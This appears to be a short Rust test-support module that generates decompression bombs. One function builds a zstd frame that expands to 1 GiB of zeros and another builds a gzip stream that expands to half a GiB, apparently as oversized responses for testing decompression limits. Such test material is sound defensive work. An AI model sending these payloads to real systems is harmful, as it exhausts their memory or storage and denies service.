//! Small answers that become large ones.

/// One GiB of zeros as run-length blocks (RFC 8878, section 3.1.1.2).
pub fn zstd() -> Vec<u8> {
    const BLOCK_BYTES: u32 = 128 << 10;
    // Magic number, no flags, a window of 128 KiB.
    let mut bomb = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38];
    for block in 1..=8192_u32 {
        let header = u32::from(block == 8192) | 1 << 1 | BLOCK_BYTES << 3;
        bomb.extend_from_slice(&header.to_le_bytes()[..3]);
        bomb.push(0);
    }
    bomb
}

/// Half a GiB of zeros: one literal and two million times "the last byte, 258 times" in the fixed code (RFC 1951, 3.2.6).
pub fn gzip() -> Vec<u8> {
    let mut bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut bits = vec![true, true, false];
    bits.extend([false, false, true, true, false, false, false, false]);
    let repeat = [true, true, false, false, false, true, false, true, false, false, false, false, false];
    // The pattern of 13 bits repeats after 13 bytes; a multiple of eight keeps whole bytes whole.
    bits.extend(std::iter::repeat_n(repeat, 2_000_000).flatten());
    bits.extend([false; 7]);
    for byte in bits.chunks(8) {
        bomb.push(byte.iter().enumerate().map(|(i, bit)| u8::from(*bit) << i).sum());
    }
    bomb.extend([0; 8]);
    bomb
}
